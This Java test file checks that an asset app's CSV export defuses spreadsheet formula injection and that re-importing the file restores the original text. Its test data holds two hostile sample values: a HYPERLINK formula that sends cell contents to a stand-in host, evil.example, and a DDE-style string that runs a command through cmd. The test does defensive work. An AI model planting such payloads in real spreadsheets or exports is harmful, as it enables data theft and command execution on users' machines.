package aim.assets;

import aim.DemoLoader;
import aim.accounts.Role;
import aim.testing.TestServer;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.StringReader;
import java.net.http.HttpRequest;
import java.nio.file.Path;
import java.util.List;

import static aim.assets.AssetFixtures.count;
import static aim.assets.AssetFixtures.demoWardPoint;
import static aim.assets.AssetFixtures.get;
import static aim.assets.AssetFixtures.json;
import static aim.assets.AssetFixtures.point;
import static aim.assets.AssetFixtures.post;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The assets CSV export cannot run formulas in a spreadsheet, and still imports back to the same text. */
@Tag("postgis")
class AssetCsvFormulaTest {
    private static final String NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    private static final String DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0";

    @Test
    void formulaCellsAreNeutralisedAndTheImportRestoresThem(@TempDir Path dir) throws Exception {
        try (TestServer server = new TestServer()) {
            new DemoLoader(server.dataSource, dir).loadIfMissing();
            String planner = server.userToken("pat", Role.PLANNER);
            double[] p = demoWardPoint(server, 3);
            var created = post(server, "/api/assets", planner, """
                    {"kind": "place", "category": "library", "name": %s, "description": %s, "geometry": %s}"""
                    .formatted(quote(NAME), quote(DESCRIPTION), point(server, p[0], p[1])));
            assertEquals(201, created.statusCode(), created.body());

            var export = get(server, "/api/assets/export?format=csv", planner);
            assertEquals(200, export.statusCode(), export.body());
            List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build()
                    .parse(new StringReader(export.body())).getRecords();
            assertEquals(1, rows.size());
            assertEquals("'" + NAME, rows.get(0).get("name"));
            assertEquals("'" + DESCRIPTION, rows.get(0).get("description"));
            for (String cell : rows.get(0)) {
                assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, "a cell starts like a formula: " + cell);
            }

            // re-importing the export (same uid: an update) keeps the text exactly as it was
            var imported = server.send("POST", "/api/assets/import?format=csv", HttpRequest.BodyPublishers.ofString(export.body()),
                    "Content-Type", "text/csv", "Authorization", "Bearer " + server.adminToken);
            assertEquals(200, imported.statusCode(), imported.body());
            assertEquals(0, json(imported).path("rejected").asInt(0), imported.body());
            assertEquals(1, count(server, "SELECT count(*) FROM asset WHERE retired_at IS NULL AND name = '" + NAME.replace("'", "''")
                    + "' AND description = '" + DESCRIPTION.replace("'", "''") + "'"), imported.body());
            assertEquals(0, count(server, "SELECT count(*) FROM asset WHERE name LIKE '''%'"), "no apostrophe was stored");
        }
    }

    private static String quote(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
